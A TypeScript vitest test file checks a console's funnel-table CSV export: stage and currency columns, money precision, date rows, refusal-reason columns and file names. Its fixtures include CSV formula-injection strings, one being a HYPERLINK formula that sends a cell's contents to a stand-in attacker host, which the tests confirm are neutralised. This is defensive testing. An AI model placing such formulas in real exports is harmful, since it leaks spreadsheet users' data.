// The funnel table's CSV (src/client/console/funnel-csv.js), built in the browser from the rows
// the console shows: one column per stage and per currency, the group's id and its label, money
// to the digits the console writes it with, and text that can neither break a record nor run
// as a formula when a marketer opens the file in a spreadsheet.
import { describe, expect, it } from "vitest";
import { parseCsv } from "../../src/client/console/csv.js";
import {
  type FunnelRow,
  funnelColumns,
  funnelCsv,
  funnelCsvName,
  TABLE_GROUPS,
} from "../../src/client/console/funnel-csv.js";
import { FUNNEL_STAGES } from "../../src/core/funnel";
import { REFUSED_REASONS } from "../../src/core/rollup";
import { GROUP_BY } from "../../src/store/stats";

const NONE = { paused: 0, revoked: 0, not_started: 0, ended: 0 };
const row = (group: string | null, over: Partial<FunnelRow> = {}): FunnelRow => ({
  group,
  scanned: 0,
  landing: 0,
  app_open: 0,
  redeemed: 0,
  converted: 0,
  unique_scanners: 0,
  converted_value: {},
  refused: 0,
  refused_by_reason: NONE,
  ...over,
});

const names = new Map([
  ["st_tokyo", "渋谷店"],
  ["st_evil", '=HYPERLINK("https://evil.example/?x="&A1,"Open")'],
  ["st_comma", 'Opéra, "rive droite"\nétage 2'],
  ["st_plus", "+33 1 23"],
  ["st_at", "@SUM(A1:A9)"],
  ["st_tab", "\tcmd"],
]);
const label = (id: string | null) =>
  id === null ? "No store (handoffs, logins)" : (names.get(id) ?? id);

describe("funnelCsv", () => {
  it("writes a store's id and its name, one column per stage, counts as plain numbers", () => {
    const rows = [
      row("st_tokyo", {
        scanned: 12345,
        landing: 12000,
        app_open: 7000,
        converted: 1500,
        unique_scanners: 9876,
      }),
      row(null, { scanned: 3, redeemed: 2 }),
    ];
    const text = funnelCsv(rows, "store", label);
    // A UTF-8 byte order mark first, so Excel reads 渋谷店 as such; CRLF between records.
    expect(text.startsWith("\uFEFFstore_id,store_name,")).toBe(true);
    expect(text.split("\r\n")).toEqual([
      "\uFEFFstore_id,store_name,scanned,landing,app_open,redeemed,converted,unique_scanners,refused",
      "st_tokyo,渋谷店,12345,12000,7000,0,1500,9876,0",
      ',"No store (handoffs, logins)",3,0,0,2,0,0,0',
      "",
    ]);
  });

  it("keeps every store name from running as a formula, and quotes what would break a record", () => {
    const rows = ["st_evil", "st_comma", "st_plus", "st_at", "st_tab"].map((id) => row(id));
    const records = parseCsv(funnelCsv(rows, "store", label)).map((r) => r.cells.slice(0, 2));
    expect(records.slice(1)).toEqual([
      ["st_evil", `'${names.get("st_evil")}`],
      ["st_comma", names.get("st_comma")],
      ["st_plus", "'+33 1 23"],
      ["st_at", "'@SUM(A1:A9)"],
      ["st_tab", "'\tcmd"],
    ]);
    const text = funnelCsv(rows, "store", label);
    // The formula is inside one quoted field, its quotes doubled: the record still has 9 cells.
    expect(text).toContain(`"'=HYPERLINK(""https://evil.example/?x=""&A1,""Open"")"`);
    expect(parseCsv(text).every((r) => r.cells.length === 9)).toBe(true);
  });

  it("gives every currency any row has its own column, each sum to the digits the console shows", () => {
    const rows = [
      row("st_tokyo", { converted_value: { JPY: 1200, EUR: 1234.5 } }),
      // ¥0.50: two ¥0.25 conversions (the API sums hundredths in every currency).
      row("st_plus", { converted_value: { JPY: 0.5, KWD: 1.5 } }),
      row("st_at", { converted_value: {} }),
    ];
    const [header, ...cells] = parseCsv(funnelCsv(rows, "store", label)).map((r) => r.cells);
    const at = (name: string) => header!.indexOf(name);
    expect(header!.filter((h) => h.startsWith("converted_value_"))).toEqual([
      "converted_value_EUR",
      "converted_value_JPY",
      "converted_value_KWD",
    ]);
    expect(cells.map((c) => c[at("converted_value_EUR")])).toEqual(["1234.50", "0.00", "0.00"]);
    expect(cells.map((c) => c[at("converted_value_JPY")])).toEqual(["1200", "0.50", "0"]);
    expect(cells.map((c) => c[at("converted_value_KWD")])).toEqual(["0.000", "1.500", "0.000"]);
  });

  it("writes days as ISO dates without a label column", () => {
    const rows = [row("2026-11-01", { scanned: 2 }), row("2026-11-02")];
    const lines = funnelCsv(rows, "day", label).split("\r\n");
    expect(lines[0]).toBe(
      "\uFEFFday,scanned,landing,app_open,redeemed,converted,unique_scanners,refused",
    );
    expect(lines.slice(1, 3)).toEqual(["2026-11-01,2,0,0,0,0,0,0", "2026-11-02,0,0,0,0,0,0,0"]);
  });

  it("adds refused scans by reason when a row has a refused scan", () => {
    const refused = { paused: 3, revoked: 1, not_started: 0, ended: 2 };
    const rows = [row("st_tokyo", { refused: 6, refused_by_reason: refused }), row("st_at")];
    const [header, first, second] = parseCsv(funnelCsv(rows, "store", label)).map((r) => r.cells);
    expect(header!.slice(-5)).toEqual([
      "refused",
      "refused_paused",
      "refused_revoked",
      "refused_not_started",
      "refused_ended",
    ]);
    expect(first!.slice(-5)).toEqual(["6", "3", "1", "0", "2"]);
    expect(second!.slice(-5)).toEqual(["0", "0", "0", "0", "0"]);
  });
});

describe("funnelColumns", () => {
  it("shows a group's label on screen and keeps its id for the file", () => {
    const cols = funnelColumns([row("st_tokyo")], "poster", label);
    expect(cols.slice(0, 2).map((c) => [c.key, c.onScreen])).toEqual([
      ["poster_id", false],
      ["poster_name", true],
    ]);
    expect(funnelColumns([row("ios")], "platform", label)[0]!.key).toBe("platform");
  });
});

// The console spells the API's lists itself (browser code imports nothing of the Worker's):
// a grouping, stage or refusal reason the API adds must reach the table and its file.
describe("the table's lists are the API's", () => {
  it("offers every grouping the funnel API takes, in its order", () => {
    expect(TABLE_GROUPS).toEqual([...GROUP_BY]);
  });

  it("has a column for every stage and every reason a scan is refused", () => {
    const refused = row("st_tokyo", { refused: 1, refused_by_reason: { ...NONE, paused: 1 } });
    const keys = funnelColumns([refused], "store", label).map((c) => c.key);
    for (const stage of FUNNEL_STAGES) expect(keys).toContain(stage);
    for (const reason of REFUSED_REASONS) expect(keys).toContain(`refused_${reason}`);
  });
});

describe("funnelCsvName", () => {
  it("says what the file is, its days and its grouping", () => {
    const range = { from: "2026-11-01", to: "2026-11-30" };
    expect(funnelCsvName(range, "store")).toBe("funnel_2026-11-01_2026-11-30_by-store.csv");
    expect(funnelCsvName(range, "in_app")).toBe("funnel_2026-11-01_2026-11-30_by-in-app.csv");
  });
});
